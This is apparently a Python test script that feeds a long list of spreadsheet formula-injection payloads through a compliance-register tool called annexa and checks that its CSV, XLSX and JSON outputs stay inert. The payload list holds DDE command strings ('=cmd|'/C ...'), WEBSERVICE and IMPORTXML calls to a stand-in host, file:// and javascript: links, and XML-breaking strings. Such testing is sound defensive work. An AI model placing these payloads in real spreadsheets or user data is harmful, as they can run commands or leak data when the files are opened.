#!/usr/bin/env python3
"""Texts that would do something in a spreadsheet, in every field of every register and in every cell that people edit.

usage: payloads.py ANNEXA TEMPLATES

Writes registers with the columns that TEMPLATES declares, as .csv and as .xlsx, once with harmless words and once
with payloads in place of the words: in every text field, in every other field, as headings, as names of sheets and
of files, as name and scope of the organisation. Runs annexa on them, types payloads into every cell of the
workbook that people edit, and refreshes and compares it. Then holds the raw parts of every workbook to this: each
formula, name, rule of validation and of formatting is one that the harmless words lead to, as well; each link leads
to an input or into the workbook; there is no part that a program runs or fetches; a text that a program would take
for a formula once it is typed again stands as text with its quote prefix; and what the harmless words show at a
place, the payload shows there unchanged, or visibly cut. Nothing that is printed holds a control character. No
cell of the tables that are exported as CSV begins like a formula, and the texts of those in JSON are the same.
Prints what is wrong and closing figures; exit status 1 where anything is, or where little was examined.
"""
import collections, csv, json, pathlib, re, shutil, subprocess, sys, tempfile, unicodedata, urllib.parse, warnings, zipfile
import openpyxl
from lxml import etree

warnings.filterwarnings("ignore", module="openpyxl")
csv.field_size_limit(1 << 24)

AS_OF = "2026-11-21"
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
RELATION = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}"

# Each text with a mark in place of `¤`, by which it is found again. None is wholly in `<>` or `[]`: a row of
# nothing but such texts is one of a template, and no record.
PAYLOADS = [
    "=¤()", "+¤", "-¤", "@¤", "\t=¤", "\r=¤", "\n=¤", " =¤", "=1+1;¤", "-1+1|¤", "=SUM(1,1)*¤", "@SUM(1)¤",
    "=cmd|'/C ¤'!A0", "+cmd|' /C ¤'!A0", "=DDE(\"¤\";\"x\";\"y\")", "=MSEXCEL|'\\..\\..\\¤.exe'!''", "=INDIRECT(\"¤\")",
    "=HYPERLINK(\"http://x.test/¤\",\"go\")", "=WEBSERVICE(\"http://x.test/¤\")", "=IMPORTXML(CONCAT(\"http://x.test/¤\"),\"//a\")",
    "=IMAGE(\"https://x.test/¤\")", "{=¤}", "'=¤", "\"=¤\"", "\"=¤", "=\"¤", "a\"&¤&\"", "=\n¤", "＝¤", "＋¤", "－¤", "＠¤",
    "\u200b=¤", "\ufeff=¤", "\u202e=¤", "\u2066=¤\u2069", "\u00a0=¤", "\u00ad=¤", "\u0301=¤", "𝟙=¤", "\x01=¤", "\x0b=¤", "\x1b[31m¤",
    "=¤\x00", "\x7f=¤", "\x85=¤", "\u2028=¤", "\uffff=¤",
    "_x0041_¤", "_x003D_¤", "_x000D_=¤", "_x005F_x003D_¤", "%3D¤", "%0A=¤", "%0D%0A=¤", "&#61;¤", "&amp;¤", "&¤;", "<f>¤</f> x",
    "]]>¤", "<![CDATA[¤]]> x", "<!-- ¤", "</t></is></c><c t=\"str\"><f>¤</f></c> x", "\"/><f>¤", "<?¤?> x",
    "https://x.test/¤", "file:///etc/¤", "mailto:¤@x.test", "internal:'¤'!A1", "external:¤.xlsx", "javascript:¤", "\\\\x.test\\¤",
    "[¤.xlsx]Sheet1!A1", "#¤!A1", "#REF! ¤", "Table1[¤]", "SoA_27001[[#This Row],[¤]]", "TRUE ¤", "1E5¤", "0012¤", "2026-11-21 ¤",
    "¤,\"=¤\",=¤", "¤;=¤", "¤\t=¤", "¤\r\n=¤", "¤'", "$A$1&¤", "&L&\"Arial\"¤", "{{¤}}", "{0}¤", "(¤", "[¤", "¤ | =x", "¤ › =x",
    "=¤ " * 900, "¤ " * 4000,
]
KINDS = ("csv", "xlsx", "names")
NUMBERS = range(len(PAYLOADS))
MARK = re.compile(r"Qz(\d\d)zQ")
# What a spreadsheet takes for a formula where it is typed.
ACTIVE = ("=", "+", "-", "@")
# Parts of a package that a program runs, fetches or shows as an object.
ACTIVE_PARTS = ("externalLinks", "vbaProject", "activeX", "embeddings", "connections", "queryTable", "customUI", "ctrlProp", "webextension")
# Everything of a package in which an expression stands.
EXPRESSIONS = {"f", "formula", "formula1", "formula2", "definedName", "calculatedColumnFormula", "totalsRowFormula", "sqref"}
# The texts of a row of a register, in four kinds of row: no cell of a field of another type holds a text in the first.
TEXT_TYPES = {"text", "party"}
CONTROLS = [f"A.{theme}.{number}" for theme, count in ((5, 37), (6, 8), (7, 14), (8, 34)) for number in range(1, count + 1)]
CONTROLS_42001 = ["A.2.2", "A.2.3", "A.2.4", "A.3.2", "A.3.3", "A.4.2", "A.4.3", "A.4.4", "A.4.5", "A.4.6", "A.5.2", "A.5.3", "A.5.4", "A.5.5"]


def payload(number):
    return PAYLOADS[number].replace("¤", f"Qz{number:02}zQ")


def word(number):
    return f"harmless Qz{number:02}zQ"


class Register:
    """A register of a declared kind: its fields with their types and headings."""

    def __init__(self, path):
        with open(path, encoding="utf-8", newline="") as file:
            fields = list(csv.DictReader(file))
        self.name = path.stem
        self.fields = [(field["field"], field["type"], field["heading_en"]) for field in fields]
        self.headings = [heading for _, _, heading in self.fields]

    def rows(self, text):
        """Rows with a text in the text fields, then in all but what identifies them, then in all fields."""
        for kind in range(3):
            for number in NUMBERS:
                yield [self.cell(place, kind, number, text) for place in range(len(self.fields))]

    def cell(self, place, kind, number, text):
        field, of_type, _ = self.fields[place]
        if kind < 2 and self.name == "controls" and field in ("standard", "control.ref"):
            return ("ISO/IEC 27001:2022" if kind == 0 else "ISO/IEC 42001:2023") if field == "standard" else self.control(kind, number)
        if kind < 2 and place == 0:
            return f"{self.name}-{kind}-{number:02}"
        if kind == 0 and of_type not in TEXT_TYPES:
            return {"level": "3", "date": "2026-05-01"}.get(of_type, "")
        return text(number)

    def control(self, kind, number):
        of_kind = CONTROLS if kind == 0 else CONTROLS_42001
        # The controls are fewer than the payloads: what is left over stands in rows of its own control.
        return of_kind[number] if number < len(of_kind) else f"OWN-{kind}-{number:02}"


def escaped(text):
    """A text as it stands in the parts of a workbook, where control characters have no place."""
    text = re.sub(r"_x(?=[0-9A-Fa-f]{4}_)", "_x005F_x", text)
    return re.sub("[\x00-\x08\x0b-\x1f\ufffe\uffff]", lambda found: f"_x{ord(found[0]):04X}_", text)


def unescaped(text):
    return re.sub("_x([0-9A-Fa-f]{4})_", lambda found: chr(int(found[1], 16)), text)


def save_csv(path, headings, rows):
    with open(path, "w", encoding="utf-8", newline="") as file:
        csv.writer(file, quoting=csv.QUOTE_ALL).writerows([headings, *rows])


def add_sheet(book, name, headings, rows):
    """A sheet of texts, some with a quote prefix, some with a link behind them."""
    sheet = book.create_sheet()
    sheet.title = name
    for number, row in enumerate([headings, *rows], 1):
        for column, value in enumerate(row, 1):
            cell = sheet.cell(number, column)
            cell.value = "text"
            # As it is, whatever it looks like.
            cell._value, cell.data_type = escaped(value)[:32767], "s"
            if number % 3 == 1 and MARK.search(value):
                cell.quotePrefix = True
            if number % 7 == 2 and column == 2 and MARK.search(value):
                cell.hyperlink = f"https://x.test/{MARK.search(value)[0]}"
                cell._value, cell.data_type = escaped(value)[:32767], "s"


def save_registers(folder, registers, text, kind):
    folder.mkdir()
    for register in registers:
        rows = list(register.rows(text))
        if kind == "csv":
            save_csv(folder / f"{register.name}.csv", register.headings, rows)
        else:
            book = openpyxl.Workbook()
            book.remove(book.active)
            add_sheet(book, register.name, register.headings, rows)
            book.save(folder / f"{register.name}.xlsx")


def sheet_name(text, number):
    """The longest name of a sheet that a text gives; each differs from the others."""
    allowed = re.sub("[\\[\\]:*?/\\\\\x00-\x1f\ufffe\uffff]", "", text)
    return f"{allowed[:28]}{number}".strip("'")


def file_name(text):
    """The longest name of a file that a text gives."""
    return text.replace("/", "_").replace("\x00", "").encode()[:200].decode(errors="ignore")


def save_names(folder, text):
    """Registers whose file, sheet and one of whose headings are the text."""
    folder.mkdir()
    headings = ["Asset ID", "Asset name", "Asset owner"]
    book = openpyxl.Workbook()
    book.remove(book.active)
    for number in NUMBERS:
        rows = [[f"N-{number:02}", "Ledger", "Ada"], [f"N-{number:02}-2", text(number), "Bo"]]
        save_csv(folder / f"{file_name(text(number))}.csv", [*headings, text(number)], rows)
        rows = [[f"S-{number:02}", "Ledger", "Ada", text(number)]]
        add_sheet(book, sheet_name(text(number), number), [*headings, text(number)], rows)
    book.save(folder / "sheets.xlsx")


def local(element):
    return etree.QName(element).localname


def texts(element):
    """What a shared or an inline string holds, without its phonetic hints."""
    return unescaped("".join(part.text or "" for part in element.iter(MAIN + "t")))


class Package:
    """The parts of a workbook, as they are stored."""

    def __init__(self, path):
        self.path = path
        with zipfile.ZipFile(path) as book:
            self.parts = {name: book.read(name) for name in book.namelist()}
        self.xml = {name: etree.fromstring(data) for name, data in self.parts.items() if name.endswith((".xml", ".rels", ".vml"))}
        shared = self.xml.get("xl/sharedStrings.xml")
        self.strings = [] if shared is None else [texts(item) for item in shared.iter(MAIN + "si")]
        formats = self.xml["xl/styles.xml"].find(MAIN + "cellXfs")
        self.prefixed = [format.get("quotePrefix") in ("1", "true") for format in formats]
        relations = {each.get("Id"): each.get("Target") for each in self.xml["xl/_rels/workbook.xml.rels"]}
        self.sheets = {}
        for sheet in self.xml["xl/workbook.xml"].iter(MAIN + "sheet"):
            target = relations[sheet.get(RELATION + "id")]
            self.sheets[sheet.get("name")] = target.lstrip("/") if target.startswith("/") else f"xl/{target}"

    def expressions(self):
        """Everything that a program calculates, with its place."""
        for part, root in self.xml.items():
            for element in root.iter(etree.Element):
                if local(element) in EXPRESSIONS and element.text and not part.endswith(".rels"):
                    yield part, element.text
            for element in root.iter(MAIN + "dataValidation", MAIN + "cfRule", MAIN + "oddHeader"):
                yield part, " ".join(f"{name}={element.get(name)}" for name in ("type", "operator", "text") if element.get(name))

    def cells(self, sheet):
        """The cells of a sheet: place, text, formula, and whether a quote prefix is there."""
        for cell in self.xml[self.sheets[sheet]].iter(MAIN + "c"):
            value, inline, formula = cell.find(MAIN + "v"), cell.find(MAIN + "is"), cell.find(MAIN + "f")
            kind, text = cell.get("t", "n"), "" if value is None else value.text or ""
            if kind == "s":
                text = self.strings[int(text)]
            elif kind == "str":
                text = unescaped(text)
            elif kind == "inlineStr":
                text = texts(inline)
            is_text = kind in ("s", "str", "inlineStr")
            yield cell.get("r"), text, is_text, formula is not None, self.prefixed[int(cell.get("s", 0))]

    def links(self):
        """Every link: whether it leads out, and where to."""
        for part, root in self.xml.items():
            if part.endswith(".rels"):
                for relation in root:
                    if relation.get("TargetMode") == "External":
                        yield True, relation.get("Target")
            for link in root.iter(MAIN + "hyperlink"):
                if link.get("location"):
                    yield False, link.get("location")


def plain(expression):
    """An expression without its texts and numbers, by which it is compared with others."""
    return re.sub(r"\d+", "0", re.sub(r'"(?:[^"]|"")*"', '""', expression))


class Proof:
    def __init__(self):
        self.wrong, self.counts = [], collections.Counter()

    def hold(self, condition, what):
        if not condition:
            self.wrong.append(what)
            if len(self.wrong) <= 40:
                print(f"WRONG: {what[:300]}", flush=True)

    def expressions(self, package, known):
        for part, expression in package.expressions():
            self.counts["expressions"] += 1
            if not (plain(expression) in known and not MARK.search(plain(expression))):
                self.hold(False, f"{package.path.name} {part}: an expression that is none of annexa: {expression!r}")

    def package(self, package, known, folder):
        """Nothing in a workbook is active but what annexa itself puts there."""
        name = package.path.name
        self.expressions(package, known)
        for part in package.parts:
            self.hold(not any(active in part for active in ACTIVE_PARTS), f"{name}: a part {part}")
        for leads_out, target in package.links():
            self.counts["links"] += 1
            if leads_out:
                path = folder / urllib.parse.unquote(target)
                self.hold("://" not in target and path.exists(), f"{name}: a link to {target!r}")
            else:
                sheet = target.rsplit("!", 1)[0].strip("'").replace("''", "'")
                self.hold(sheet in package.sheets, f"{name}: a link into the workbook at {target!r}")
        for sheet in package.sheets:
            for place, text, is_text, is_formula, prefixed in package.cells(sheet):
                found = {int(number) for number in MARK.findall(text)}
                if not found:
                    continue
                self.counts["cells with a payload"] += 1
                at = f"{name} {sheet}!{place}"
                self.hold(not is_formula, f"{at}: the value of a formula holds the payload {text[:80]!r}")
                self.hold(is_text, f"{at}: no text, but {text[:80]!r}")
                if sheet != "_annexa":
                    self.hold(prefixed or not text.startswith(ACTIVE), f"{at}: no quote prefix before {text[:80]!r}")

    def printed(self, command, output):
        controls = {character for character in output if unicodedata.category(character) == "Cc" and character not in "\n\t"}
        self.hold(not controls, f"{' '.join(map(str, command))[:150]} prints control characters {controls}")


class Tables:
    """The lists of a workbook: what stands where, by list, key and heading."""

    def __init__(self, path):
        self.book, self.package = openpyxl.load_workbook(path), Package(path)
        self.tables = {}
        for sheet in self.book.worksheets:
            for table in sheet.tables.values():
                rows = sheet[table.ref]
                headings = [cell.value for cell in rows[0]]
                role = [sheet.cell(rows[0][0].row - 1, cell.column).value if rows[0][0].row > 1 else None for cell in rows[0]]
                self.tables[table.name] = (sheet, headings, role, rows[1:])

    def shown(self):
        """Text by list, key and heading, as it is stored: openpyxl does not keep all that is escaped in it."""
        for name, (sheet, headings, _, rows) in self.tables.items():
            stored = {place: text for place, text, is_text, _, _ in self.package.cells(sheet.title) if is_text}
            key = headings.index("Key") if "Key" in headings else 0
            for row in rows:
                for heading, cell in zip(headings, row):
                    if cell.coordinate in stored:
                        yield (name, row[key].value, heading), stored[cell.coordinate]


def without_controls(text):
    """A text as a cell shows it: control characters that no workbook holds do not count, nor blanks around it."""
    text = text.replace("\r\n", "\n").replace("\r", "\n").replace("\t", " ")
    return "".join(c for c in text if c == "\n" or unicodedata.category(c) not in ("Cc", "Cn")).strip()


def shows(shown, expected):
    """Whether a text is the expected one, or visibly cut."""
    shown, expected = without_controls(shown), without_controls(expected)
    if shown == expected:
        return True
    start = re.split("…|\\[cut", shown)[0].rstrip()
    return len(start) > 100 and start != shown.rstrip() and expected.startswith(start)


class Run:
    """Runs annexa in a folder."""

    def __init__(self, annexa, folder, proof):
        self.annexa, self.folder, self.proof = annexa, folder, proof

    def __call__(self, *arguments, statuses=(0,)):
        command = [self.annexa, *map(str, arguments)]
        done = subprocess.run(command, cwd=self.folder, capture_output=True)
        told, output = done.stderr.decode(), done.stdout.decode()
        assert done.returncode in statuses, f"{arguments[:2]}: exit status {done.returncode}\n{told[-2000:]}"
        self.proof.printed(arguments, told + output)
        return output


def type_texts(path, target, of):
    """Types the text of a number into every cell that people edit; gives what was typed where texts are free."""
    tables = Tables(path)
    typed, free = 0, {}
    for name, (sheet, headings, roles, rows) in tables.tables.items():
        restricted = set()
        for rule in sheet.data_validations.dataValidation:
            if rule.type in (None, "none"):
                continue
            restricted.update(column for area in rule.sqref.ranges for column in range(area.min_col, area.max_col + 1))
        key = headings.index("Key") if "Key" in headings else 0
        for place, (heading, role) in enumerate(zip(headings, roles)):
            settings = sheet.title == "Parameters" and place > 0 and heading in ("Value", "Level", "Divisor", "Person-days", "Highest score")
            if role != "edit" and not settings:
                continue
            for number, row in enumerate(rows):
                text = of((number + 7 * place) % len(PAYLOADS))
                cell = row[place]
                cell.value = None
                cell._value, cell.data_type = escaped(text)[:32767], "s"
                typed += 1
                if cell.column not in restricted and not settings:
                    free[name, row[key].value, heading] = text
    keep_escapes(tables)
    tables.book.save(target)
    return typed, free


def keep_escapes(tables):
    """Puts back what openpyxl does not keep: the escapes of texts that nobody typed over."""
    for sheet in tables.book.worksheets:
        for place, text, is_text, _, _ in tables.package.cells(sheet.title):
            cell = sheet[place]
            if is_text and cell.data_type == "s" and escaped(text) != text and cell.value == escaped(text).replace("x005F_", ""):
                cell._value = escaped(text)


# Editable columns whose texts are references, or make the key of their record.
REFERENCES = {"Reference", "References", "Controls", "Affected asset", "AI system", "Assets used", "Requirement", "Risk ID", "Asset ID", "AI system ID", "Finding ID",
              "Header row chosen"}


def harmless(run, kind, expressions):
    """A run on the harmless words: adds every expression that it leads to, and gives what it shows."""
    run("assess", kind, "-o", f"{kind}.xlsx", "--as-of", AS_OF, "--organisation", word(0), "--scope", word(1))
    package = Package(run.folder / f"{kind}.xlsx")
    expressions.update(plain(expression) for _, expression in package.expressions())
    return dict(Tables(package.path).shown())


def hold_shown(proof, words, path, kind):
    """What harmless words show alone in a cell, payloads show there."""
    shown = dict(Tables(path).shown())
    lists = {place[:2] for place in shown}
    for place, text in words.items():
        found = MARK.fullmatch(text.removeprefix("harmless "))
        if not found or place[2] in REFERENCES | {"Key"} or MARK.search(str(place[1])) or place[0] in ("Changes", "Values", "Columns"):
            continue
        if place[0] == "Findings" and place[:2] not in lists:
            # What is found differs with the text, as a reference that is none.
            continue
        if kind == "names" and place[:2] not in lists:
            # Where the name of the file makes the table of two rows another one.
            proof.counts["records of a name that were not found"] += 1
            continue
        proof.counts["texts held to what was written"] += 1
        expected = payload(int(found[1]))
        proof.hold(shows(shown.get(place, ""), expected), f"{kind} {place}: {shown.get(place, 'nothing')[:80]!r} instead of {expected[:80]!r}")


def prove(with_words, run, proof):
    """Every command on the payloads, held to what it does on the words."""
    expressions, words = set(), {}
    for kind in KINDS:
        words[kind] = harmless(with_words, kind, expressions)
    for kind in KINDS:
        output = run.folder / f"{kind}.xlsx"
        run("assess", kind, "-o", output.name, "--as-of", AS_OF, f"--organisation={payload(0)}", f"--scope={payload(17)}", "-v")
        proof.package(Package(output), expressions, run.folder)
        hold_shown(proof, words[kind], output, kind)
        json.loads(run("inspect", kind, "--json"))
        for each in (with_words, run):
            each("inspect", kind, "-o", f"mapping-{kind}.xlsx", "--as-of", AS_OF)
        known = expressions_of(with_words.folder / f"mapping-{kind}.xlsx")
        proof.package(Package(run.folder / f"mapping-{kind}.xlsx"), known, run.folder)
    refresh(with_words, run, proof, expressions)
    with_words("template", "-o", "intake.xlsx", "--organisation", word(0), "--as-of", AS_OF)
    known = expressions_of(with_words.folder / "intake.xlsx")
    for number in NUMBERS:
        # No argument of a program holds that character.
        if "\x00" not in payload(number):
            run("template", "assets", "-o", "intake.xlsx", "--force", f"--organisation={payload(number)}", "--as-of", AS_OF)
            proof.package(Package(run.folder / "intake.xlsx"), known, run.folder)


def of_typed_words(with_words):
    """The expressions that harmless words lead to where they are typed: what is no setting stays in its cell, and the
    formulas take for it what the run took."""
    workbook, before = with_words.folder / "csv.xlsx", with_words.folder / "before.xlsx"
    shutil.copy(workbook, before)
    # A formula compares short texts alone.
    type_texts(before, workbook, lambda number: word(number) + " and so on" * (len(payload(number)) // 100))
    with_words("assess", "-o", workbook.name, "--as-of", AS_OF, "--no-backup", "--json")
    return expressions_of(workbook)


def refresh(with_words, run, proof, expressions):
    """Payloads typed into the workbook, which is refreshed, compared with what it was, and explained."""
    workbook, before = run.folder / "csv.xlsx", run.folder / "before.xlsx"
    shutil.copy(workbook, before)
    typed, free = type_texts(before, workbook, payload)
    proof.counts["typed cells"] += typed
    json.loads(run("assess", "-o", workbook.name, "--as-of", AS_OF, "--no-backup", "--json"))
    proof.package(Package(workbook), expressions | of_typed_words(with_words), run.folder)
    shown, first = dict(Tables(workbook).shown()), dict(Tables(before).shown())
    lists = {place[:2] for place in shown}
    tables = Tables(workbook)
    titles = {name: sheet.title for name, (sheet, *_) in tables.tables.items()}
    on_sheets = {name: [text for _, text, is_text, _, _ in tables.package.cells(title) if is_text] for name, title in titles.items()}
    for place, expected in free.items():
        # A finding or a question may be gone with what was typed; what is typed as it stood is no edit.
        gone = place[0] in ("Findings", "AI_risk_questions") and place[:2] not in lists
        if place[1] is None:
            # The blank row of a list: what is typed there is a remark, which stays on its sheet.
            proof.hold(any(shows(text, expected) for text in on_sheets[place[0]]), f"typed at {place}: gone from its sheet")
            continue
        if place[2] not in REFERENCES and not gone and not shows(first.get(place, ""), expected):
            proof.counts["typed texts held to what was typed"] += 1
            found = shown.get(place, "")
            proof.hold(shows(found, expected), f"typed at {place}: {found[:80]!r} instead of {expected[:80]!r}")
    run("diff", before.name, workbook.name, "-o", "changes.xlsx")
    run("diff", before.name, before.name, "-o", "no-changes.xlsx")
    known = expressions_of(run.folder / "no-changes.xlsx")
    proof.package(Package(run.folder / "changes.xlsx"), known, run.folder)
    for asked in ("27001:A.5.1", "Risks!A7", "Findings!C7"):
        run("explain", asked, "-w", workbook.name)
    hold_exported(run, workbook, proof)


def hold_exported(run, workbook, proof):
    """No cell of an exported table is active; but for the apostrophe that sees to it, it holds the text of the list."""
    for name, delimiter in (("commas", ","), ("semicolons", ";"), ("tabs", "tab")):
        run("export", "--workbook", workbook.name, "-o", name, "--delimiter", delimiter)
    run("export", "--workbook", workbook.name, "-o", "objects", "--format", "json")
    for name, delimiter in (("commas", ","), ("semicolons", ";"), ("tabs", "\t")):
        for path in sorted((run.folder / name).iterdir()):
            with open(path, encoding="utf-8-sig", newline="") as file:
                headings, *rows = csv.reader(file, delimiter=delimiter)
            objects = json.loads((run.folder / "objects" / f"{path.stem}.json").read_text())
            proof.hold(len(rows) == len(objects), f"{path.name}: {len(rows)} rows of {len(objects)}")
            for row, known in zip(rows, objects):
                for heading, cell in zip(headings, row):
                    proof.counts["exported cells"] += 1
                    seen = "".join(c for c in cell if unicodedata.category(c)[0] not in "CZ").lstrip('"')
                    active = unicodedata.normalize("NFKC", seen).startswith(ACTIVE) and not re.fullmatch(r"-|-?[0-9][0-9.,E+-]*", cell)
                    proof.hold(not active, f"{path.name} {heading}: {cell[:60]!r} is active")
                    if isinstance(known[heading], str):
                        same = cell.removeprefix("'") == known[heading].removeprefix("'")
                        proof.hold(same, f"{path.name} {heading}: {cell[:60]!r} instead of {known[heading][:60]!r}")


def expressions_of(path):
    return {plain(expression) for _, expression in Package(path).expressions()}


def main():
    annexa, templates = str(pathlib.Path(sys.argv[1]).resolve()), pathlib.Path(sys.argv[2])
    names = ("assets", "risks", "ai-systems", "controls", "questionnaire", "audit-findings", "suppliers")
    registers = [Register(templates / f"{name}.csv") for name in names]
    proof = Proof()
    with tempfile.TemporaryDirectory() as scratch:
        folder = pathlib.Path(scratch)
        # Beside each other, so that a record of both has the same key.
        runs = [Run(annexa, folder / name, proof) for name in ("words", "payloads")]
        for run, text in zip(runs, (word, payload)):
            run.folder.mkdir()
            for kind in ("csv", "xlsx"):
                save_registers(run.folder / kind, registers, text, kind)
            save_names(run.folder / "names", text)
        prove(*runs, proof)
    print(f"payloads {len(PAYLOADS)}, fields {sum(len(each.fields) for each in registers)}, "
          + ", ".join(f"{what} {count}" for what, count in proof.counts.items()) + f", wrong {len(proof.wrong)}")
    sys.exit(1 if proof.wrong or len(proof.counts) < 6 else 0)


main()
